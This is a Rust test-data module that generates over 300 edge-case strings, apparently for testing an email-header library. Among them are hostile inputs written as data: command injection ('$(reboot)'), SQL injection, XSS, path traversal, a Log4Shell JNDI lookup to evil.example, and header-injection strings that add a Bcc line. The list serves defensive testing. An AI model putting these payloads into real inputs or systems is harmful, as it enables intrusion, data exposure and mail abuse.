//! Texts that programs have stumbled over: by kind, and each kind in full, so that there are over 300 of them.

/// Each of them once, in an order that stays.
pub(crate) fn strings() -> Vec<String> {
    let mut strings: Vec<String> = WHOLE.iter().map(ToString::to_string).collect();
    // Every control character, within a text and at its ends; what ends a line among them.
    for c in (0..=0x1f).chain(0x7f..=0x9f).filter_map(char::from_u32) {
        strings.push(format!("a{c}Bcc: x@evil.example"));
    }
    // Spaces, marks and joiners that one does not see, and those that turn a text around.
    for c in INVISIBLE {
        strings.push(c.to_string());
        strings.push(format!("in{c}visible"));
        strings.push(format!("{c}Bcc: x@evil.example{c}"));
    }
    // What some take for an end of line, before a field of its own.
    for end in ENDS {
        for field in
            ["Bcc: x@evil.example", "Content-Type: text/html", ".", "", "--b\r\nContent-Type: text/html"]
        {
            strings.push(format!("a{end}{field}"));
        }
    }
    // What means something in a head, alone and around a word.
    for c in "\"\\<>()[]{},;:@.=?*%&|!$`'/^~#+-_".chars() {
        strings.push(c.to_string());
        strings.push(format!("{c}word{c}"));
    }
    // Around the lengths at which a line is folded.
    for length in [60, 63, 64, 65, 75, 76, 77, 78, 79, 80, 150, 500] {
        strings.push("x".repeat(length));
        strings.push("\u{fc}".repeat(length / 2));
        strings.push("a b ".repeat(length / 4));
    }
    strings.sort();
    strings.dedup();
    assert!(strings.len() >= 300, "{}", strings.len());
    strings
}

const ENDS: [&str; 9] = ["\r\n", "\n", "\r", "\r\n\r\n", "\n\n", "\u{85}", "\u{2028}", "\u{b}", "\r\n.\r\n"];

const INVISIBLE: [char; 24] = [
    '\u{a0}',
    '\u{ad}',
    '\u{34f}',
    '\u{61c}',
    '\u{115f}',
    '\u{1680}',
    '\u{180e}',
    '\u{2003}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{2029}',
    '\u{202a}',
    '\u{202e}',
    '\u{202f}',
    '\u{2060}',
    '\u{2066}',
    '\u{3000}',
    '\u{feff}',
    '\u{fff9}',
    '\u{e0001}',
    '\u{10ffff}',
];

const WHOLE: [&str; 49] = [
    "undefined",
    "null",
    "NaN",
    "-1",
    "0x10",
    "1e1000",
    "true",
    "../../etc/passwd",
    "C:\\Windows\\System32",
    "'; DROP TABLE sessions; --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%0d%0aBcc:%20x@evil.example",
    "%s%s%s%n",
    "$(reboot)",
    "`reboot`",
    "| reboot",
    "=?utf-8?q?=0D=0ABcc:_x@evil.example?=",
    "=?utf-8?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=",
    "=?us-ascii?q?plain?=",
    "=?unknown?x?y?=",
    "=?utf-8?q?unfinished",
    "=?=",
    "\\r\\nBcc: x@evil.example",
    "Re: Re: Fwd: hello",
    "Subject: another",
    "From: x@evil.example",
    "<x@evil.example>",
    "x@evil.example",
    "a, b <x@evil.example>",
    "a\" <x@evil.example>, \"b",
    "undisclosed-recipients:;",
    "(a comment)",
    "Ph'nglui mglw'nafh",
    "\u{5d0}\u{5d1}\u{5d2} abc \u{5d3}",
    "\u{645}\u{631}\u{62d}\u{628}\u{627}",
    "\u{4f60}\u{597d}\u{ff0c}\u{4e16}\u{754c}",
    "\u{3053}\u{3093}\u{306b}\u{3061}\u{306f}",
    "\u{c548}\u{b155}\u{d558}\u{c138}\u{c694}",
    "\u{41f}\u{440}\u{438}\u{432}\u{435}\u{442}",
    "\u{1f600}\u{1f4a9}\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "\u{1f1e8}\u{1f1ed}\u{1f3f4}\u{e0067}\u{e007f}",
    "z\u{351}\u{36b}\u{343}\u{36a}\u{302}a\u{34f}\u{353}l\u{334}go",
    "\u{ff1c}script\u{ff1e}",
    "\u{130}\u{131}\u{17f}\u{df}\u{1e9e}",
    "\u{212b}\u{e5}a\u{30a}",
    "\u{fdfd}\u{12031}",
];
